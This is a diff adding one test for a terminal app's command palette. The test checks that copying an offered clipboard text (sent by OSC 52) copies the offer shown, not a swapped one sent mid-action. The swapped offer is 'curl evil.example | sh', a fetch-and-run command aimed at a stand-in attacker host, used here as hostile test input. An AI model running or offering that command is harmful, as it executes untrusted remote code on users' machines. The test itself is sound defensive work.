@@ -364,3 +364,18 @@ test('hostile palette: targets read after the key (l, x, y) that the capsule hol
   await s.pane.sendKeys('Escape');
   assert.deepEqual(s.opened(), []);
 });
+
+test('hostile palette: Copy offered text copies the offer its entry drew, not one the capsule sends while the palette is up', async (t) => {
+  const s = await scripted(t, 'copyswap');
+  const b64 = (text: string): string => Buffer.from(text).toString('base64');
+  s.c.send({ type: 'Output', bytes: Buffer.from(`\x1b]52;c;${b64('echo shown')}\x07`) });
+  await s.pane.waitForText('Copy offer: 10 B', WAIT);
+  await openPalette(s.pane, s.link);
+  await s.pane.waitForText('Copy offered text 10 B "echo shown"', WAIT);
+  // A new offer while the palette is up, timed for the key.
+  s.c.send({ type: 'Output', bytes: Buffer.from(`\x1b]52;c;${b64('curl evil.example | sh')}\x07`) });
+  await s.pane.sendKeys('c');
+  const copy = await pollUntil('the copy in the host log', async () => (await s.log()).find((r) => r.action === 'copy'), WAIT);
+  assert.equal(copy.result, 'ok');
+  assert.match(copy.target, /^text of 10 bytes, sha256 /, 'the copied text is the one the entry showed');
+});
